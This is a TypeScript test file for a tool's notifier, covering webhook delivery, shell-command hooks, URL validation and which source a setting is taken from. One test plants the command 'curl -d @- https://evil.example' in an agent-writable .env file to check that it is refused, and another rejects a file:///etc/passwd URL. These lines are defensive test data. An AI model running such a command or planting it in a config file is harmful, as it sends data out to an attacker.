/**
 * The two real ways out, one attempt each: a webhook against a server on 127.0.0.1, a command under
 * /bin/sh. And where the settings come from: a flag over the environment over the `.env` chain, never
 * a file an agent could write, and a bad URL named by its source.
 */
import assert from 'node:assert/strict';
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { ConfigError } from '../../src/errors.js';
import { DeliveryError, command, notifySettings, webhook, webhookUrl } from '../../src/notify/index.js';

interface Got {
  method: string;
  url: string;
  headers: http.IncomingHttpHeaders;
  body: string;
}
const got: Got[] = [];
let status = 200;
let server: http.Server;
let base = '';
before(async () => {
  server = http.createServer((req, res) => {
    let body = '';
    req.setEncoding('utf8').on('data', (c: string) => (body += c));
    req.on('end', () => {
      got.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body });
      res.statusCode = status;
      res.end('ignored');
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
after(() => new Promise<void>((r) => server.close(() => r())));

const never = new AbortController().signal;

test('a webhook POSTs the body as application/json, and its label is the origin alone', async () => {
  got.length = 0;
  status = 204;
  const t = webhook(`${base}/T0123/B0456/secretpath`);
  assert.equal(t.label, base);
  await t.send('{"kind":"finished"}', never);
  assert.equal(got[0]!.method, 'POST');
  assert.equal(got[0]!.url, '/T0123/B0456/secretpath');
  assert.equal(got[0]!.headers['content-type'], 'application/json');
  assert.equal(got[0]!.body, '{"kind":"finished"}');
});

test('credentials in the URL become a Basic authorization header', async () => {
  got.length = 0;
  status = 200;
  const t = webhook(base.replace('http://', 'http://me:p%40ss@'));
  assert.equal(t.label, base);
  await t.send('{}', never);
  assert.equal(got[0]!.headers.authorization, `Basic ${Buffer.from('me:p@ss').toString('base64')}`);
});

const STATUSES: Array<[number, boolean]> = [
  [500, true],
  [503, true],
  [429, true],
  [408, true],
  [400, false],
  [404, false],
];
for (const [code, retryable] of STATUSES) {
  test(`HTTP ${code} fails the attempt${retryable ? ', worth another' : ' for good'}`, async () => {
    status = code;
    await assert.rejects(
      webhook(base).send('{}', never),
      (e: unknown) => e instanceof DeliveryError && e.message === `HTTP ${code}` && e.retryable === retryable,
    );
  });
}

test('a closed port fails the attempt with the reason, not the URL', async () => {
  const closed = http.createServer();
  await new Promise<void>((r) => closed.listen(0, '127.0.0.1', r));
  const port = (closed.address() as AddressInfo).port;
  await new Promise<void>((r) => closed.close(() => r()));
  await assert.rejects(webhook(`http://127.0.0.1:${port}/secret-topic`).send('{}', never), (e: unknown) => {
    assert.ok(e instanceof DeliveryError && e.retryable);
    assert.match(e.message, /ECONNREFUSED/);
    assert.doesNotMatch(e.message, /secret-topic/);
    return true;
  });
});

const tmp = () => fs.mkdtempSync(path.join(os.tmpdir(), 'flower-notify-'));

test('a command gets the body on stdin, runs in the given folder with the given environment', async () => {
  const dir = tmp();
  await command('cat > got.json; printf %s "$ONLY" > env.txt; echo noise', { cwd: dir, env: { PATH: process.env.PATH ?? '', ONLY: 'this' } }).send(
    '{"a":1}',
    never,
  );
  assert.equal(fs.readFileSync(path.join(dir, 'got.json'), 'utf8'), '{"a":1}');
  assert.equal(fs.readFileSync(path.join(dir, 'env.txt'), 'utf8'), 'this');
});

test('a command that never reads stdin is delivered all the same', async () => {
  await command('true', { cwd: tmp(), env: { PATH: process.env.PATH ?? '' } }).send('x'.repeat(1_000_000), never);
});

test('a failing command says its exit code and its first stderr line', async () => {
  await assert.rejects(
    command('echo "no such topic" >&2; exit 3', { cwd: tmp(), env: {} }).send('{}', never),
    (e: unknown) => e instanceof DeliveryError && e.message === 'exit 3: no such topic',
  );
});

test('an aborted command is killed with its whole process group', async () => {
  const dir = tmp();
  const ac = new AbortController();
  const p = command('sleep 30 & echo $! > child.pid; wait', { cwd: dir, env: { PATH: process.env.PATH ?? '' } }).send('{}', ac.signal);
  const pidFile = path.join(dir, 'child.pid');
  const started = Date.now();
  while (!fs.existsSync(pidFile) || !fs.readFileSync(pidFile, 'utf8').trim()) {
    if (Date.now() - started > 20_000) throw new Error('the command never started');
    await new Promise((r) => setImmediate(r));
  }
  ac.abort(new Error('no answer'));
  await assert.rejects(p, /killed by SIGKILL/);
  const pid = Number(fs.readFileSync(pidFile, 'utf8'));
  // the grandchild went with the group (a zombie reaped by init counts as gone)
  const alive = (): boolean => {
    try {
      process.kill(pid, 0);
      return true;
    } catch {
      return false;
    }
  };
  const until = Date.now() + 20_000;
  while (alive() && Date.now() < until) await new Promise((r) => setImmediate(r));
  assert.equal(alive(), false);
});

const URLS: Array<[string, string | null]> = [
  ['https://ntfy.sh/my-topic', 'https://ntfy.sh/my-topic'],
  ['http://127.0.0.1:8080/hook', 'http://127.0.0.1:8080/hook'],
  ['  https://hooks.slack.com/services/T/B/X  ', 'https://hooks.slack.com/services/T/B/X'],
  ['ntfy.sh/my-topic', null],
  ['ftp://example.com/x', null],
  ['file:///etc/passwd', null],
  ['', null],
];
for (const [value, want] of URLS) {
  test(`--notify ${JSON.stringify(value)} → ${want ?? 'a usage error naming the flag'}`, () => {
    if (want) assert.equal(webhookUrl(value, '--notify'), want);
    else
      assert.throws(
        () => webhookUrl(value, '--notify'),
        (e: unknown) => e instanceof ConfigError && e.code === 'bad-notify' && e.message.startsWith('--notify is '),
      );
  });
}

test('a bad URL hides the password it holds', () => {
  assert.throws(
    () => webhookUrl('gopher://me:hunter2@x', 'FLOWER_NOTIFY'),
    (e: unknown) => e instanceof Error && !e.message.includes('hunter2'),
  );
});

const no = (): boolean => false;
test('the flag wins over the environment, which wins over a file', () => {
  const s = notifySettings({
    env: { FLOWER_NOTIFY: 'https://env.example/x', FLOWER_NOTIFY_CMD: 'cat' },
    from: {},
    url: 'https://flag.example/y',
    agentWritable: no,
  });
  assert.deepEqual(s, { url: 'https://flag.example/y', cmd: 'cat', refused: [] });
  assert.deepEqual(notifySettings({ env: {}, from: {}, agentWritable: no }), { url: null, cmd: null, refused: [] });
});

test('a setting from a file an agent could write is refused with one line; from the config file it is used', () => {
  const env = { FLOWER_NOTIFY: 'https://x.example/t', FLOWER_NOTIFY_CMD: 'curl -d @- https://evil.example' };
  const s = notifySettings({ env, from: { FLOWER_NOTIFY: '/ws/.env', FLOWER_NOTIFY_CMD: '/ws/.env' }, agentWritable: (f) => f.startsWith('/ws/') });
  assert.equal(s.url, null);
  assert.equal(s.cmd, null);
  assert.equal(s.refused.length, 2);
  assert.match(s.refused[1]!, /^FLOWER_NOTIFY_CMD in \/ws\/\.env ignored/);
  const ok = notifySettings({ env, from: { FLOWER_NOTIFY: '/home/me/.config/flower/.env' }, agentWritable: (f) => f.startsWith('/ws/') });
  assert.equal(ok.url, 'https://x.example/t');
});

test('a bad URL in a file names the variable and the file', () => {
  assert.throws(
    () => notifySettings({ env: { FLOWER_NOTIFY: 'nope' }, from: { FLOWER_NOTIFY: '/home/me/.config/flower/.env' }, agentWritable: no }),
    /^ConfigError: FLOWER_NOTIFY \(in \/home\/me\/\.config\/flower\/\.env\) is "nope"/,
  );
});
